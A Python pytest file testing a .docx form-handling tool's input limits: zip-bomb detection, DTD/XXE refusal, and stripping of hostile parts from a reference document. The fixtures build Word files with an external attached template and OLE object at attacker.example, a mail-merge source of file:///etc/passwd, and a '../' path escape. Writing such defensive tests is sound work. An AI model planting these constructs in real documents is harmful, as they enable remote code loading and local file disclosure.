"""The one Word layer (drafter.ooxml): one form read alike by lint, import and form filling,
and the limits every .docx input meets (zip bombs, DTDs, what a reference document lends)."""

from __future__ import annotations

import io
import json
import re
import struct
import zipfile
from pathlib import Path

import docx
import pytest

from drafter.cli import main
from drafter.ooxml.blocks import read_blocks
from tests.fixtures.forms import build as fx
from tests.test_lint_cli import _comment_ranges
from tests.test_ooxml_schema import assert_valid_docx

ROOT = Path(__file__).resolve().parents[1]
FORMS = ROOT / "tests" / "fixtures" / "forms"
FORM = FORMS / "control-and-quote.docx"
EXAMPLE = ROOT / "examples" / "answers-example.yaml"

ANSWERS = """\
schema: 1
consultation: fic-2027-09
date: 2027-02-01
respondent:
  name: Ceri Jones
answers:
  "1":
    response: Yes, through the business advice service.
  "2":
    response: Match funding for community share offers.
"""


def drafter(capsys, *args: str) -> tuple[int, str, str]:
    """Run the CLI in this process: (exit code, stdout, stderr)."""
    with pytest.raises(SystemExit) as info:
        main([str(a) for a in args])
    out = capsys.readouterr()
    return info.value.code, out.out, out.err


# --- one form, read alike by lint, import and form filling -------------------------------


def test_the_fixture_is_what_the_build_script_makes(tmp_path):
    fx.control_and_quote_docx(tmp_path / "made.docx")
    made = zipfile.ZipFile(tmp_path / "made.docx")
    committed = zipfile.ZipFile(FORM)
    assert made.read("word/document.xml") == committed.read("word/document.xml")


def test_lint_reads_inside_the_content_control_and_shields_the_quote_styled_title(capsys):
    code, out, _err = drafter(capsys, "lint", FORM, "--format", "json")
    assert code == 1
    findings = json.loads(out)["files"][0]["findings"]
    flagged = {(f["rule"], f["text"]) for f in findings}
    assert ("misattribution", "John Lewis is a co-operative") in flagged
    # "Cooperatives" in the title would be a house-spelling warning were it not italic
    assert not [f for f in findings if f["text"] in fx.QUOTE_TITLE]
    assert "Cooperatives" in fx.QUOTE_TITLE


def test_import_reads_the_same_control_and_the_same_italic_title(capsys):
    from drafter.importer import scan

    result = scan(FORM)
    assert [(q.number, q.text) for q in result.questions] == [("1", fx.CQ1), ("2", fx.CQ2)]
    assert result.questions[1].guidance == [fx.QUOTE_TITLE]  # italic: guidance, not wording
    blocks = read_blocks(docx.Document(str(FORM)))
    quote = next(b for b in blocks if b.text == fx.QUOTE_TITLE)
    assert quote.italic and quote.emphasis == [(0, len(fx.QUOTE_TITLE))]
    assert any(b.text == fx.CONTROL_SENTENCE for b in blocks)


def test_form_filling_reads_the_same_form_and_writes_inside_the_control(tmp_path, capsys):
    from drafter.importer import docx_blocks

    answers = tmp_path / "answers.yaml"
    answers.write_text(ANSWERS)
    out = tmp_path / "filled.docx"
    code, said, err = drafter(capsys, "render", answers, "--into", FORM, "-o", out)
    assert code == 0, err
    said += err
    assert "filled: question 1" in said and "filled: question 2" in said
    assert "no such question" not in said
    texts = [b.text for b in docx_blocks(docx.Document(str(out)))]
    q1 = texts.index(f"Question 1: {fx.CQ1}")
    assert texts[q1 + 1] == "Yes, through the business advice service."
    assert texts[q1 - 1] == fx.CONTROL_SENTENCE
    q2 = texts.index(f"Question 2: {fx.CQ2}")
    assert texts[q2 + 1 : q2 + 3] == [fx.QUOTE_TITLE, "Match funding for community share offers."]


def test_lint_and_import_see_the_same_text(tmp_path):
    """Every block the importer reads is in the text lint checks, in the same order."""
    from drafter.importer import read_form as import_blocks
    from drafter.readers import read_document

    linted = read_document(FORM).text
    imported = [b.text for b in import_blocks(FORM)[0] if b.text.strip()]
    position = 0
    for text in imported:
        position = linted.index(text, position)


# --- zip bombs and sizes -------------------------------------------------------------------


def _copy_with(source: Path, target: Path, extra: dict[str, bytes], replace=None) -> Path:
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item)
            dst.writestr(item.filename, (replace or {}).get(item.filename, data))
        for name, data in extra.items():
            dst.writestr(name, data)
    return target


def _declare_size(path: Path, member: str, size: int) -> None:
    """Rewrite the central directory so `member` declares `size` bytes unpacked."""
    raw = bytearray(path.read_bytes())
    at = raw.find(b"PK\x01\x02")
    while at != -1:
        name_len = struct.unpack_from("<H", raw, at + 28)[0]
        if raw[at + 46 : at + 46 + name_len].decode() == member:
            struct.pack_into("<I", raw, at + 24, size)
        at = raw.find(b"PK\x01\x02", at + 4)
    path.write_bytes(bytes(raw))


def _refused_by_every_reader(capsys, tmp_path: Path, path: Path, words: str) -> None:
    runs = {
        "lint": ("lint", path),
        "import": ("consultations", "import", path, "--check"),
        "fill": ("render", EXAMPLE, "--into", path, "-o", tmp_path / "filled.docx"),
        "reference": ("render", EXAMPLE, "--reference-doc", path, "-o", tmp_path / "r.docx"),
    }
    for name, args in runs.items():
        code, _out, err = drafter(capsys, *args)
        assert code == 2, (name, err)
        assert err.count("\n") == 1 and "Traceback" not in err, (name, err)
        assert str(path) in err and words in err, (name, err)
    assert not (tmp_path / "filled.docx").exists() and not (tmp_path / "r.docx").exists()


def test_a_part_declaring_more_than_the_limit_is_refused_before_inflating(tmp_path, capsys):
    bomb = _copy_with(FORMS / "three-column.docx", tmp_path / "bomb.docx", {"word/a.bin": b"x"})
    _declare_size(bomb, "word/a.bin", 300 * 1024 * 1024)
    _refused_by_every_reader(capsys, tmp_path, bomb, "is too large unpacked (301 MB; the limit")


def test_a_part_compressed_past_any_real_documents_ratio_is_a_zip_bomb(tmp_path, capsys):
    zeros = bytes(12 * 1024 * 1024)  # 12 MB of zeros deflate to about 12 KB
    bomb = _copy_with(FORMS / "one-cell.docx", tmp_path / "zeros.docx", {"word/media/z.bin": zeros})
    _refused_by_every_reader(capsys, tmp_path, bomb, "word/media/z.bin unpacks to 12 MB")


def test_a_part_that_inflates_past_its_declared_size_is_damaged(tmp_path, capsys):
    liar = _copy_with(FORMS / "one-cell.docx", tmp_path / "liar.docx", {"word/l.bin": bytes(5000)})
    _declare_size(liar, "word/l.bin", 10)
    _refused_by_every_reader(capsys, tmp_path, liar, "is damaged")


def test_a_package_over_the_packed_limit_is_refused(tmp_path, capsys, monkeypatch):
    import drafter.ooxml.package as package

    monkeypatch.setattr(package, "MAX_PACKED", 16 * 1024)
    big = _copy_with(
        FORMS / "one-cell.docx", tmp_path / "big.docx", {"word/media/noise.bin": _noise(64_000)}
    )
    size = big.stat().st_size / 1024 / 1024
    _refused_by_every_reader(
        capsys, tmp_path, big, f"is too large ({size:.1f} MB; the limit is 0.0 MB)"
    )


def _noise(n: int) -> bytes:
    import random

    return random.Random(7).randbytes(n)


# --- DTDs ----------------------------------------------------------------------------------

_DTD = b'<?xml version="1.0"?>\n<!DOCTYPE w:document [<!ENTITY xxe "injected">]>\n'


@pytest.mark.parametrize("part", ["word/document.xml", "word/styles.xml", "[Content_Types].xml"])
def test_a_dtd_in_any_part_is_refused_in_one_line(tmp_path, capsys, part):
    with zipfile.ZipFile(FORMS / "one-cell.docx") as src:
        original = src.read(part)
    body = original.split(b"?>", 1)[1] if original.startswith(b"<?xml") else original
    form = _copy_with(FORMS / "one-cell.docx", tmp_path / "dtd.docx", {}, {part: _DTD + body})
    _refused_by_every_reader(capsys, tmp_path, form, f"has a DTD (<!DOCTYPE>) in its {part} part")


def test_a_dtd_in_utf16_is_refused_too(tmp_path):
    from drafter.errors import InputError
    from drafter.ooxml.package import read_package

    with zipfile.ZipFile(FORMS / "one-cell.docx") as src:
        styles = src.read("word/styles.xml").split(b"?>", 1)[1]
    xml = ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x>' + styles.decode()).encode("utf-16")
    form = _copy_with(FORMS / "one-cell.docx", tmp_path / "u16.docx", {}, {"word/styles.xml": xml})
    with pytest.raises(InputError, match="has a DTD"):
        read_package(form)


def test_a_dtd_in_an_xml_part_not_named_xml_is_refused_too(tmp_path):
    from drafter.errors import InputError
    from drafter.ooxml.package import read_package

    odd = {"word/parts/odd.dat": _DTD + b"<x/>", "word/media/photo.jpg": b"\xff\xd8<!DOCTYPE"}
    form = _copy_with(FORMS / "one-cell.docx", tmp_path / "odd.docx", odd)
    with pytest.raises(InputError, match="in its word/parts/odd.dat part"):
        read_package(form)
    del odd["word/parts/odd.dat"]  # binary data that happens to hold the bytes is not XML
    read_package(_copy_with(FORMS / "one-cell.docx", tmp_path / "photo.docx", odd))


# --- what a reference document lends ------------------------------------------------------


def _hostile_reference(tmp_path: Path) -> Path:
    """The bundled reference with an attached template on a server, a mail-merge source, a
    header the section uses (with its picture) and one it does not, and parts nothing names."""
    from drafter.writer.docx import bundled_reference

    rt = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    with zipfile.ZipFile(bundled_reference()) as src:
        parts = {i.filename: src.read(i) for i in src.infolist()}
    settings = parts["word/settings.xml"].decode()
    settings = settings.replace(
        "<w:zoom",
        '<w:attachedTemplate r:id="rIdT"/><w:mailMerge><w:mainDocumentType w:val="formLetters"/>'
        '<w:dataSource r:id="rIdM"/></w:mailMerge><w:zoom',
        1,
    )
    if "xmlns:r=" not in settings.split(">", 2)[1]:
        settings = settings.replace(f'xmlns:w="{w}"', f'xmlns:w="{w}" xmlns:r="{rt[:-1]}"', 1)
    parts["word/settings.xml"] = settings.encode()
    parts["word/_rels/settings.xml.rels"] = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships '
        'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rIdT" Type="{rt}attachedTemplate" '
        'Target="https://attacker.example/evil.dotm" TargetMode="External"/>'
        f'<Relationship Id="rIdM" Type="{rt}mailMergeSource" '
        'Target="file:///etc/passwd" TargetMode="External"/></Relationships>'
    ).encode()
    header = (
        f'<w:hdr xmlns:w="{w}" xmlns:r="{rt[:-1]}"><w:p><w:r><w:t>Our header</w:t></w:r></w:p>'
        "</w:hdr>"
    )
    parts["word/header7.xml"] = header.encode()
    parts["word/header8.xml"] = header.replace("Our header", "Unused header").encode()
    parts["word/_rels/header7.xml.rels"] = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships '
        'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{rt}image" Target="media/logo.png"/>'
        f'<Relationship Id="rId2" Type="{rt}oleObject" Target="https://attacker.example/x" '
        'TargetMode="External"/></Relationships>'
    ).encode()
    parts["word/media/logo.png"] = b"\x89PNG\r\n\x1a\n" + bytes(64)
    parts["word/media/unused.bin"] = bytes(1000)
    parts["customXml/item1.xml"] = b"<secret/>"
    parts["../escape.xml"] = b"<x/>"
    rels = parts["word/_rels/document.xml.rels"].decode()
    rels = rels.replace(
        "</Relationships>",
        f'<Relationship Id="rId90" Type="{rt}header" Target="header7.xml"/>'
        f'<Relationship Id="rId91" Type="{rt}header" Target="header8.xml"/>'
        f'<Relationship Id="rId92" Type="{rt}customXml" Target="../customXml/item1.xml"/>'
        f'<Relationship Id="rId93" Type="{rt}image" Target="media/unused.bin"/>'
        "</Relationships>",
    )
    parts["word/_rels/document.xml.rels"] = rels.encode()
    document = parts["word/document.xml"].decode()
    document = re.sub(
        r"(<w:sectPr[^>]*>)", r'\1<w:headerReference w:type="default" r:id="rId90"/>', document
    )
    assert 'r:id="rId90"' in document
    parts["word/document.xml"] = document.encode()
    types = (
        parts["[Content_Types].xml"]
        .decode()
        .replace(
            "</Types>",
            '<Override PartName="/word/header7.xml" ContentType="application/vnd.openxmlformats-'
            'officedocument.wordprocessingml.header+xml"/><Override PartName="/word/header8.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"/>'
            '<Default Extension="png" ContentType="image/png"/>'
            '<Default Extension="bin" ContentType="application/octet-stream"/></Types>',
        )
    )
    parts["[Content_Types].xml"] = types.encode()
    path = tmp_path / "hostile.docx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for name, data in parts.items():
            out.writestr(name, data)
    return path


def test_a_reference_document_lends_its_look_and_nothing_else(tmp_path, capsys):
    reference = _hostile_reference(tmp_path)
    out = tmp_path / "response.docx"
    code, _out, err = drafter(capsys, "render", EXAMPLE, "--reference-doc", reference, "-o", out)
    assert code == 0, err
    package = zipfile.ZipFile(out)
    names = set(package.namelist())
    assert not names & {
        "word/header8.xml",
        "word/media/unused.bin",
        "customXml/item1.xml",
        "../escape.xml",
        "word/_rels/settings.xml.rels",
    }
    assert {"word/styles.xml", "word/numbering.xml", "word/theme/theme1.xml"} <= names
    assert {"word/fontTable.xml", "word/settings.xml", "word/media/logo.png"} <= names
    everything = b"".join(package.read(n) for n in names)
    assert b"attacker.example" not in everything and b"/etc/passwd" not in everything
    settings = package.read("word/settings.xml").decode()
    assert "attachedTemplate" not in settings and "mailMerge" not in settings
    document = docx.Document(str(out))
    assert document.sections[0].header.paragraphs[0].text  # the response's own header
    assert "word/settings.xml" in assert_valid_docx(out)


# --- comments: every finding anchored in one pass ------------------------------------------


def test_annotate_anchors_many_findings_in_one_paragraph_exactly(tmp_path, capsys):
    source = tmp_path / "many.docx"
    document = docx.Document()
    paragraph = document.add_paragraph("Start. ")
    for i in range(40):
        run = paragraph.add_run("John Lewis is a co-operative")
        run.bold = i % 2 == 0
        paragraph.add_run(f" and {i} cooperatives matter.\t")
    document.add_paragraph("A plain paragraph about mutuals and co-operatives.")
    document.save(source)
    out = tmp_path / "checked.docx"
    code, _out, err = drafter(capsys, "lint", source, "--annotate", out)
    assert code == 1, err
    annotated = docx.Document(str(out))
    assert annotated.paragraphs[0].text == docx.Document(str(source)).paragraphs[0].text
    ranges = _comment_ranges(annotated.paragraphs[0]._p)
    texts = sorted(ranges.values())
    assert texts.count("John Lewis is a co-operative") == 40
    assert texts.count("cooperatives") == 40
    assert len({c.comment_id for c in annotated.comments}) == len(list(annotated.comments))
    assert f"with {len(list(annotated.comments))} comment(s)" in err


def test_annotate_output_is_valid_word(tmp_path, capsys):
    out = tmp_path / "checked.docx"
    code, _out, _err = drafter(capsys, "lint", FORM, "--annotate", out)
    assert code == 1
    checked = assert_valid_docx(out, only=("word/document.xml", "word/comments.xml"))
    assert len(checked) == 2
    assert any("John Lewis" in c.text for c in docx.Document(str(out)).comments)


def test_read_package_is_the_one_check(tmp_path):
    """lint, import, fill and the writer all meet the same words for a non-Word zip."""
    from drafter.errors import InputError
    from drafter.ooxml.package import NOT_WORD, read_package

    path = tmp_path / "notes.docx"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("notes.txt", "hello")
    with pytest.raises(InputError, match=NOT_WORD.split("(")[0]):
        read_package(path)
    raw, parts = read_package(FORM)
    assert raw == FORM.read_bytes() and "word/document.xml" in parts
    assert zipfile.ZipFile(io.BytesIO(raw)).namelist() == list(parts)
